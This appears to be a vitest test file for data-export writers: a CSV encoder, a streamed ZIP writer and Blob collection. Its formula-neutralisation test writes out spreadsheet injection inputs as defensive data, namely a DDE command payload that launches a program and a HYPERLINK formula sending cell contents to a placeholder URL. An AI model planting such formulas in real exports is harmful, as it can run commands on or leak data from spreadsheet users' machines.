/** The file writers of the exports: CSV from Arrow batches, the streamed ZIP, Blob collection. */
import { DateDay, Field, Int32, makeData, RecordBatch, Schema, Struct, TimestampMicrosecond, Utf8, vectorFromArray, type Vector } from 'apache-arrow';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { BlobSink, collectBlob } from '../../src/exports/blob-sink.ts';
import { CsvEncoder, formatDouble, isoDate, isoTimestamp } from '../../src/exports/csv-writer.ts';
import { ZipWriter } from '../../src/exports/zip-writer.ts';

function csv(batch: RecordBatch, raw = false): string {
  const encoder = new CsvEncoder(batch.schema, { raw });
  return new TextDecoder().decode(encoder.header()) + new TextDecoder().decode(encoder.encode(batch));
}

function batchOf(columns: Record<string, Vector>): RecordBatch {
  const fields = Object.entries(columns).map(([name, v]) => new Field(name, v.type, true));
  const data = makeData({ type: new Struct(fields), length: Object.values(columns)[0].length, children: Object.values(columns).map((v) => v.data[0]) });
  return new RecordBatch(new Schema(fields), data);
}

describe('CSV writer', () => {
  it('quotes only what RFC 4180 requires, doubles quotes, and tells NULL from the empty string', () => {
    const batch = batchOf({ text: vectorFromArray(['plain', 'a,b', 'say "hi"', 'two\nlines', 'cr\r', '', null, 'Zoë €'], new Utf8()) });
    expect(csv(batch)).toBe('text\nplain\n"a,b"\n"say ""hi"""\n"two\nlines"\n"cr\r"\n""\n\nZoë €\n');
  });

  it('writes whole numbers, big integers, decimals with a .0 when whole, and booleans', () => {
    const batch = batchOf({
      n: vectorFromArray([0n, -5n, 9_007_199_254_740_993n, -9_223_372_036_854_775_808n, null]),
      x: vectorFromArray([1, 2.5, -0.1, 1e21, 3578]),
      b: vectorFromArray([true, false, null, true, false]),
      i: vectorFromArray(new Int32Array([7, -7, 0, 2_147_483_647, -2_147_483_648])),
    });
    expect(csv(batch).split('\n')).toEqual([
      'n,x,b,i',
      '0,1.0,true,7',
      '-5,2.5,false,-7',
      '9007199254740993,-0.1,,0',
      '-9223372036854775808,1e+21,true,2147483647',
      ',3578.0,false,-2147483648',
      '',
    ]);
  });

  it('writes dates as yyyy-mm-dd and timestamps without a time zone', () => {
    const day = (iso: string) => new Date(`${iso}T00:00:00Z`).getTime();
    const batch = batchOf({
      d: vectorFromArray([day('2010-12-29'), day('2000-02-29'), day('1969-12-31'), null], new DateDay()),
      t: vectorFromArray([Date.UTC(2013, 0, 28, 13, 5, 9), 0, Date.UTC(1999, 11, 31, 23, 59, 59, 250), null], new TimestampMicrosecond()),
    });
    expect(csv(batch).split('\n').slice(1, 5)).toEqual([
      '2010-12-29,2013-01-28 13:05:09',
      '2000-02-29,1970-01-01 00:00:00',
      '1969-12-31,1999-12-31 23:59:59.25',
      ',',
    ]);
  });

  it('formats days, timestamps and doubles on their own', () => {
    expect(isoDate(0)).toBe('1970-01-01');
    expect(isoDate(-719_162)).toBe('0001-01-01');
    expect(isoDate(2_932_896)).toBe('9999-12-31');
    expect(isoDate(11_016)).toBe('2000-02-29');
    expect(isoTimestamp(-1n, 2)).toBe('1969-12-31 23:59:59.999999');
    expect(formatDouble(0.1 + 0.2)).toBe('0.30000000000000004');
    expect(formatDouble(-0)).toBe('0.0');
    expect(formatDouble(Number.NaN)).toBe('NaN');
  });

  it('neutralises formula-like text (OWASP) by default: a quote in front; numbers stay numbers; raw on request', () => {
    const text = [
      '=HYPERLINK("https://example.com/?"&A2,"x")', '+SUM(A1:A9)', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1)', '\tx', '\rx', '=1,2',
      '-5', '+1.5e3', '-.5', '-', '+', '-1e', 'a=b', ' =1', 'plain', null, '',
    ];
    const batch = batchOf({
      '=name': vectorFromArray(text, new Utf8()),
      amount: vectorFromArray(text.map((_, i) => -i - 0.5)),
      n: vectorFromArray(text.map((_, i) => BigInt(-i))),
    });
    expect(csv(batch).split('\n').slice(0, -1)).toEqual([
      "'=name,amount,n",
      '"\'=HYPERLINK(""https://example.com/?""&A2,""x"")",-0.5,0',
      "'+SUM(A1:A9),-1.5,-1",
      "'-2+3+cmd|' /C calc'!A0,-2.5,-2",
      "'@SUM(1),-3.5,-3",
      "'\tx,-4.5,-4",
      '"\'\rx",-5.5,-5',
      '"\'=1,2",-6.5,-6',
      '-5,-7.5,-7',
      '+1.5e3,-8.5,-8',
      '-.5,-9.5,-9',
      "'-,-10.5,-10",
      "'+,-11.5,-11",
      "'-1e,-12.5,-12",
      'a=b,-13.5,-13',
      ' =1,-14.5,-14',
      'plain,-15.5,-15',
      ',-16.5,-16',
      '"",-17.5,-17',
    ]);
    const raw = csv(batch, true).split('\n');
    expect(raw[0]).toBe('=name,amount,n');
    expect(raw[1]).toBe('"=HYPERLINK(""https://example.com/?""&A2,""x"")",-0.5,0');
    expect(raw.slice(2, 7)).toEqual(['+SUM(A1:A9),-1.5,-1', "-2+3+cmd|' /C calc'!A0,-2.5,-2", '@SUM(1),-3.5,-3', '\tx,-4.5,-4', '"\rx",-5.5,-5']);
  });

  it('writes dates at and beyond the edges of its 1900–2100 byte table, first and again', () => {
    const days = [-719_162, -25_568, -25_567, 0, 47_846, 47_847, 47_848, 2_932_896];
    const batch = batchOf({ d: vectorFromArray([...days, ...days].map((d) => d * 86_400_000), new DateDay()) });
    const expected = ['0001-01-01', '1899-12-31', '1900-01-01', '1970-01-01', '2100-12-31', '2101-01-01', '2101-01-02', '9999-12-31'];
    expect(csv(batch).split('\n').slice(1, -1)).toEqual([...expected, ...expected]);
  });

  it('reads nulls by bit in a slice that starts mid-byte, and copies long text whole', () => {
    const long = `x${'é'.repeat(40)},y`;
    const batch = batchOf({
      i: vectorFromArray([1, null, 3, null, 5, 6, null, 8, 9, null, 11], new Int32()),
      d: vectorFromArray([0, 86_400_000, null, 0, null, 0, 0, null, 0, 0, null], new DateDay()),
      s: vectorFromArray(['a', 'b', long, null, 'c', '', 'd', 'e', long, 'f', null], new Utf8()),
    });
    expect(csv(batch.slice(3, 11)).split('\n').slice(1, -1)).toEqual([
      ',1970-01-01,', '5,,c', '6,1970-01-01,""', ',1970-01-01,d', '8,,e', `9,1970-01-01,"${long}"`, ',1970-01-01,f', '11,,',
    ]);
  });

  it('encodes a batch that is a slice of a larger one', () => {
    const batch = batchOf({ s: vectorFromArray(['a', 'b', 'c,d', 'e'], new Utf8()), n: vectorFromArray([1, 2, 3.5, 4]) });
    const slice = batch.slice(2, 4);
    expect(csv(slice)).toBe('s,n\n"c,d",3.5\ne,4.0\n');
  });
});

describe('ZIP writer', () => {
  async function zipOf(files: [string, Uint8Array[], boolean][], limit?: number): Promise<Uint8Array> {
    const sink = new BlobSink();
    const zip = new ZipWriter((c) => sink.push(c), new Date(Date.UTC(2026, 0, 2, 3, 4, 6)), limit);
    for (const [name, chunks, compress] of files) await zip.add(name, chunks, compress);
    await zip.finish();
    expect(zip.bytes).toBe(sink.size);
    return new Uint8Array(await sink.finish('application/zip').arrayBuffer());
  }

  it('streams files in pieces, deflated or stored, in order', async () => {
    const text = new TextEncoder().encode('a,b\n'.repeat(50_000));
    const binary = new Uint8Array(1000).map((_, i) => (i * 7919) % 256);
    const bytes = await zipOf([
      ['data.csv', [text.subarray(0, 100_001), text.subarray(100_001)], true],
      ['data.parquet', [binary], false],
      ['empty.txt', [], true],
    ]);
    const files = unzipSync(bytes);
    expect(Object.keys(files)).toEqual(['data.csv', 'data.parquet', 'empty.txt']);
    expect(files['data.csv']).toEqual(text);
    expect(files['data.parquet']).toEqual(binary);
    expect(strFromU8(files['empty.txt'])).toBe('');
    expect(bytes.length).toBeLessThan(text.length / 10);
  });

  it('refuses files beyond the 32-bit sizes of a classic ZIP, in words', async () => {
    const big = new Uint8Array(600);
    await expect(zipOf([['big.csv', [big, big], true]], 1000)).rejects.toThrow(
      'big.csv is larger than 4 GB, the limit of a ZIP file; download it on its own instead',
    );
  });
});

describe('Blob collection', () => {
  it('keeps every byte in order across its parts', async () => {
    const pieces = Array.from({ length: 40 }, (_, i) => new Uint8Array(512 * 1024).fill(i));
    const blob = await collectBlob((async function* () {
      yield* pieces;
    })(), 'application/octet-stream');
    expect(blob.size).toBe(40 * 512 * 1024);
    expect(blob.type).toBe('application/octet-stream');
    const bytes = new Uint8Array(await blob.arrayBuffer());
    expect(bytes[0]).toBe(0);
    expect(bytes[20 * 512 * 1024]).toBe(20);
    expect(bytes.at(-1)).toBe(39);
  });
});
